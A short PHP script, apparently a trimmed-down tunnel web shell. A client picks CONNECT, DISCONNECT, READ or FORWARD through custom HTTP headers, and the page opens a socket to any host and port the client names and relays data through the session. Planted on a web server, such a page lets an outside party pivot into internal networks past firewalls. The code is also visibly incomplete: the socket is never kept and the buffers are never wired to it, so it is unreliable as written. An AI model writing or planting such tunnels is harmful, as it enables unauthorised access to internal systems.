<?php
// A tunnel page: the client says what to do in a header, the page relays bytes.
$cmd = isset($_SERVER['HTTP_X_OP']) ? $_SERVER['HTTP_X_OP'] : '';
session_start();
switch ($cmd) {
case "CONNECT":
    $s = fsockopen($_SERVER['HTTP_X_HOST'], (int) $_SERVER['HTTP_X_PORT']);
    stream_set_blocking($s, false);
    $_SESSION['run'] = true;
    break;
case "DISCONNECT":
    $_SESSION['run'] = false;
    break;
case "READ":
    echo $_SESSION['buf'];
    break;
case "FORWARD":
    $_SESSION['out'] .= file_get_contents("php://input");
    break;
}
